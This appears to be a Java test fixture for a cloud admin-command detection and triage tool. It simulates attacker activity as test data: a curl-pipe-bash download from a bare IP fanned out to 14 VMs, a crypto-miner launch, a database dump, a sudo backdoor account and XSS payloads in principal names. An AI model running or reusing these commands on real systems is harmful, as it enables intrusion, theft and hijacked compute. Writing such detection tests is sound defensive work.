package io.runwatch.core.render;

import static io.runwatch.core.triage.TriageFixtures.T;
import static io.runwatch.core.triage.TriageFixtures.aws;
import static io.runwatch.core.triage.TriageFixtures.azure;
import static io.runwatch.core.triage.TriageFixtures.exec;
import static io.runwatch.core.triage.TriageFixtures.gcp;
import static io.runwatch.core.triage.TriageFixtures.iamUser;
import static io.runwatch.core.triage.TriageFixtures.instanceRole;
import static io.runwatch.core.triage.TriageFixtures.matcher;
import static io.runwatch.core.triage.TriageFixtures.roleSession;
import static io.runwatch.core.triage.TriageFixtures.target;
import static io.runwatch.core.triage.TriageFixtures.vms;

import io.runwatch.core.baseline.Baseline;
import io.runwatch.core.correlate.CommandCorrelation;
import io.runwatch.core.correlate.CorrelationStatus;
import io.runwatch.core.correlate.Evidence;
import io.runwatch.core.correlate.OrphanExecution;
import io.runwatch.core.correlate.TargetCorrelation;
import io.runwatch.core.detect.DetectionContext;
import io.runwatch.core.detect.DetectorHit;
import io.runwatch.core.detect.RecentActivity;
import io.runwatch.core.detect.Severity;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.Operation;
import io.runwatch.core.model.Outcome;
import io.runwatch.core.model.Principal;
import io.runwatch.core.model.PrincipalKind;
import io.runwatch.core.model.VmRef;
import io.runwatch.core.policy.ApprovedAutomation;
import io.runwatch.core.policy.Policy;
import io.runwatch.core.policy.Thresholds;
import io.runwatch.core.triage.Finding;
import io.runwatch.core.triage.Triage;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

/**
 * A morning in a multi-cloud estate, for the report tests: routine admin work, a patch robot, an
 * attacker who failed, then fanned a download-and-run script out to 14 VMs, a VM commanding
 * another, an Azure run command at night, a GCP service account from a new place, an orphan
 * execution, and a principal whose name is an XSS payload. Hits are built by hand (detectors are
 * not part of this tree yet).
 */
public final class ReportScenario {
  public static final String XSS = "<script>alert(1)</script>";
  public static final String EVIL_LINE =
      "sh -c \"<img src=x onerror=alert(2)>\" --token=s3cr3tT0ken";

  public final List<AdminCommand> commands = new ArrayList<>();
  public final Map<AdminCommand, CommandCorrelation> correlations = new HashMap<>();
  public final List<Finding> findings;

  /** Mallory's fan-out, with its related findings attached. */
  public final Finding attack;

  public ReportScenario() {
    Triage triage = new Triage();
    Policy policy =
        new Policy(
            List.of(matcher("*:user/alice")),
            List.of(
                new ApprovedAutomation(
                    "patching",
                    matcher("*assumed-role/PatchAutomation/*"),
                    List.of("AWS-RunPatchBaseline"),
                    Set.of(Operation.SEND_COMMAND),
                    List.of(),
                    List.of())),
            List.of(),
            List.of(matcher("*:user/breakglass")),
            Thresholds.DEFAULTS,
            Map.of(),
            Duration.ofDays(30));
    List<Finding> out = new ArrayList<>();

    // Alice, a declared admin: routine work through the morning, confirmed on the hosts.
    Principal alice = iamUser("alice", "AKIAEXAMPLEALICE0001");
    for (int i = 0; i < 6; i++) {
      AdminCommand c =
          aws(alice)
              .eventId("alice-" + i)
              .commandId("c0ffee00-0000-4000-8000-00000000000" + i)
              .time(T.minusSeconds(3 * 3600 - i * 1500L))
              .build();
      add(
          c,
          correlation(
              c,
              target(
                  c.targets().get(0).id(),
                  CorrelationStatus.CONFIRMED,
                  "/bin/sh -c 'systemctl restart nginx'")));
    }

    // The patch robot: approved automation, in scope.
    Principal patch = roleSession("PatchAutomation", "nightly-run");
    AdminCommand patchRun =
        aws(patch)
            .eventId("patch-1")
            .document("AWS-RunPatchBaseline")
            .targets(vms(8))
            .time(T.minusSeconds(2 * 3600))
            .build();
    add(patchRun, null);
    out.add(
        triage
            .triage(
                ctx(patchRun, null, policy),
                List.of(
                    new DetectorHit(
                        "RW-VOLUME-SPIKE",
                        Severity.MEDIUM,
                        45,
                        "8 commands today against a usual 1.2 a day",
                        Map.of("today", "8", "rate", "1.2"))))
            .orElseThrow());

    // Mallory: two denials, then a curl-pipe-sh fanned out to 14 VMs from a new network.
    Principal mallory = iamUser("mallory", "AKIAEXAMPLEMALLORY01");
    List<AdminCommand> malloryCommands = new ArrayList<>();
    for (int i = 0; i < 2; i++) {
      AdminCommand denied =
          aws(mallory)
              .eventId("mallory-denied-" + i)
              .sourceIp("203.0.113.66")
              .outcome(Outcome.DENIED)
              .errorCode("AccessDenied")
              .commandId(null)
              .time(T.minusSeconds(900 - i * 300L))
              .build();
      add(denied, null);
      malloryCommands.add(denied);
    }
    List<VmRef> fleet = vms(14);
    AdminCommand strike =
        aws(mallory)
            .eventId("mallory-strike")
            .sourceIp("203.0.113.66")
            .targets(fleet)
            .content("curl -s http://203.0.113.66/x.sh | bash")
            .contentSha256("9b1c0f4a6e0d5c3b2a19f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a3")
            .time(T)
            .build();
    List<TargetCorrelation> strikeTargets = new ArrayList<>();
    for (int i = 0; i < fleet.size(); i++) {
      String vm = fleet.get(i).id();
      CorrelationStatus s =
          i < 9
              ? CorrelationStatus.CONFIRMED
              : i < 12 ? CorrelationStatus.BLIND_SPOT : CorrelationStatus.NOT_OBSERVED;
      strikeTargets.add(
          s == CorrelationStatus.CONFIRMED
              ? target(
                  vm,
                  s,
                  "/usr/bin/bash /var/lib/amazon/ssm/"
                      + vm
                      + "/document/orchestration/0b7c8d9e-1111-2222-3333-444455556666/awsrunShellScript/0.awsrunShellScript/_script.sh",
                  "curl -s http://203.0.113.66/x.sh",
                  "bash",
                  "/tmp/.x/kworker --pool=stratum+tcp://203.0.113.66:3333 --password=hunter2")
              : target(vm, s));
    }
    CommandCorrelation strikeCc = new CommandCorrelation(strike, strikeTargets, null);
    add(strike, strikeCc);
    malloryCommands.add(strike);
    RecentActivity malloryRecent = new RecentActivity(malloryCommands, List.of(), List.of());
    Finding strikeFinding =
        triage
            .triage(
                new DetectionContext(
                    strike,
                    strikeCc,
                    Baseline.empty(Baseline.scopeOf(strike)),
                    policy,
                    malloryRecent,
                    T.plusSeconds(300)),
                List.of(
                    new DetectorHit(
                        "RW-FAILED-THEN-SUCCEEDED",
                        Severity.HIGH,
                        60,
                        "2 denied SendCommand by mallory in the 15 minutes before this success",
                        Map.of("denied", "2")),
                    new DetectorHit(
                        "RW-SUSPICIOUS-CONTENT",
                        Severity.HIGH,
                        70,
                        "downloads a script from a bare IP address and pipes it to a shell",
                        Map.of("pattern", "curl|bash")),
                    new DetectorHit(
                        "RW-FAN-OUT",
                        Severity.MEDIUM,
                        40,
                        "one command reached 14 VMs (threshold 10)",
                        Map.of("reach", "14")),
                    new DetectorHit(
                        "RW-FIRST-SEEN-INITIATOR",
                        Severity.MEDIUM,
                        35,
                        "first admin command by mallory in account 111122223333",
                        Map.of()),
                    new DetectorHit(
                        "RW-NEW-SOURCE",
                        Severity.MEDIUM,
                        35,
                        "203.0.113.66 never seen for mallory or the account",
                        Map.of("ip", "203.0.113.66"))))
            .orElseThrow();
    out.add(strikeFinding);

    // A web server's role commanding the database VM.
    AdminCommand pivot =
        aws(instanceRole("WebServerRole", "i-0123456789abcdef0"))
            .eventId("pivot-1")
            .sourceIp("10.0.3.7")
            .targets(List.of(VmRef.of("i-0dbdbdbdbdbdb0001")))
            .time(T.plusSeconds(1800))
            .build();
    CommandCorrelation pivotCc =
        correlation(
            pivot,
            target(
                "i-0dbdbdbdbdbdb0001",
                CorrelationStatus.CONFIRMED,
                "/bin/sh -c 'pg_dumpall > /tmp/d.sql'"));
    add(pivot, pivotCc);
    out.add(
        triage
            .triage(
                ctx(pivot, pivotCc, policy),
                List.of(
                    new DetectorHit(
                        "RW-NON-ADMIN-IDENTITY",
                        Severity.MEDIUM,
                        50,
                        "WebServerRole/i-0123456789abcdef0 is a VM's identity, not an administrator",
                        Map.of())))
            .orElseThrow());

    // Azure: a person runs a command at night, outside every window.
    AdminCommand night =
        azure(new Principal("bob@contoso.com", "Bob Builder", PrincipalKind.HUMAN, null, null))
            .time(T.minusSeconds(5 * 3600))
            .build();
    add(night, null);
    out.add(
        triage
            .triage(
                ctx(night, null, policy),
                List.of(
                    new DetectorHit(
                        "RW-OUTSIDE-WINDOW",
                        Severity.MEDIUM,
                        45,
                        "ran at 04:30 UTC, outside every declared maintenance window",
                        Map.of())))
            .orElseThrow());

    // GCP: a deployment service account from a new address.
    AdminCommand sa =
        gcp(new Principal(
                "deploy@prod-project.iam.gserviceaccount.com",
                "deploy@prod-project.iam.gserviceaccount.com",
                PrincipalKind.SERVICE_ACCOUNT,
                null,
                null))
            .time(T.plusSeconds(2 * 3600))
            .build();
    add(sa, correlation(sa, target("4417283747219583201", CorrelationStatus.NOT_OBSERVED)));
    out.add(
        triage
            .triage(
                ctx(sa, correlations.get(sa), policy),
                List.of(
                    new DetectorHit(
                        "RW-NEW-SOURCE",
                        Severity.LOW,
                        25,
                        "192.0.2.10 is new for this service account",
                        Map.of())))
            .orElseThrow());

    // A principal whose name is a script, and a command line that is markup.
    AdminCommand odd =
        aws(new Principal(
                "arn:aws:iam::111122223333:user/" + XSS, XSS, PrincipalKind.HUMAN, null, null))
            .eventId("odd-1")
            .document("https://evil.example/payload.js")
            .time(T.plusSeconds(3 * 3600))
            .build();
    CommandCorrelation oddCc =
        correlation(odd, target("i-0a1b2c3d4e5f60001", CorrelationStatus.CONFIRMED, EVIL_LINE));
    add(odd, oddCc);
    out.add(
        triage
            .triage(
                ctx(odd, oddCc, policy),
                List.of(
                    new DetectorHit(
                        "RW-SUSPICIOUS-CONTENT",
                        Severity.MEDIUM,
                        40,
                        "markup in a command line: " + EVIL_LINE,
                        Map.of("line", EVIL_LINE))))
            .orElseThrow());

    // An orphan: the agent ran something no control-plane record explains.
    OrphanExecution orphan =
        new OrphanExecution(
            "i-0feedfacecafe0001",
            "ip-10-0-9-9",
            "aws-run-command",
            "9f0e1d2c-aaaa-bbbb-cccc-ddddeeeeffff",
            List.of(
                new Evidence(
                    "i-0feedfacecafe0001",
                    exec(
                        "ip-10-0-9-9",
                        T.plusSeconds(2400),
                        "/bin/sh /var/lib/amazon/ssm/i-0feedfacecafe0001/document/orchestration/9f0e1d2c-aaaa-bbbb-cccc-ddddeeeeffff/_script.sh"),
                    "aws-run-command",
                    "9f0e1d2c-aaaa-bbbb-cccc-ddddeeeeffff",
                    List.of(
                        exec("ip-10-0-9-9", T.plusSeconds(2401), "useradd -m -G sudo support2")))));
    out.add(triage.orphan(orphan, policy));

    findings = Triage.linkRelated(out, Duration.ofHours(2));
    attack =
        findings.stream().filter(f -> f.id().equals(strikeFinding.id())).findFirst().orElseThrow();
  }

  private void add(AdminCommand c, CommandCorrelation cc) {
    commands.add(c);
    if (cc != null) {
      correlations.put(c, cc);
    }
  }

  private static CommandCorrelation correlation(AdminCommand c, TargetCorrelation t) {
    return new CommandCorrelation(c, List.of(t), null);
  }

  private static DetectionContext ctx(AdminCommand c, CommandCorrelation cc, Policy p) {
    return new DetectionContext(
        c,
        cc,
        Baseline.empty(Baseline.scopeOf(c)),
        p,
        RecentActivity.empty(),
        c.time().plusSeconds(300));
  }

  /** The scenario's finding whose title contains {@code text}. */
  public Finding finding(String text) {
    return findings.stream()
        .filter(f -> io.runwatch.core.triage.FindingText.title(f).contains(text))
        .findFirst()
        .orElseThrow();
  }

  static Instant start() {
    return T.minusSeconds(5 * 3600);
  }
}
